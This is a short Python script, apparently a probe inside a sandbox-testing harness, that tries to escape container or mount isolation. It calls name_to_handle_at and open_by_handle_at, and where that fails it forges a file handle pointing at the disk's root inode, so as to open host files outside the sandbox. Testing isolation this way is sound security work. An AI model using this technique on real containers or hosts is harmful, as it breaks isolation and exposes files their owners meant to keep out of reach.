"""Opens a file by the handle that the disk knows it by, past every folder and mount."""

import ctypes
import os

import target

at_fdcwd = -100
for path in ("/", "/usr", os.__file__, "/mnt/data", target.HOST_FILE):
    handle = ctypes.create_string_buffer(136)
    handle[:4] = (128).to_bytes(4, "little")
    mount = ctypes.c_int()
    named, _ = target.call("name_to_handle_at", at_fdcwd, path.encode(), handle, ctypes.byref(mount), 0)
    if named < 0:
        handle[:8] = (8).to_bytes(4, "little") + (1).to_bytes(4, "little")
        handle[8:16] = (2).to_bytes(4, "little") + bytes(4)  # the root of most disks
    try:
        folder = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    except OSError:
        continue
    target.attempt("open_by_handle_at", folder, handle, os.O_RDONLY)
    os.close(folder)
target.tried()
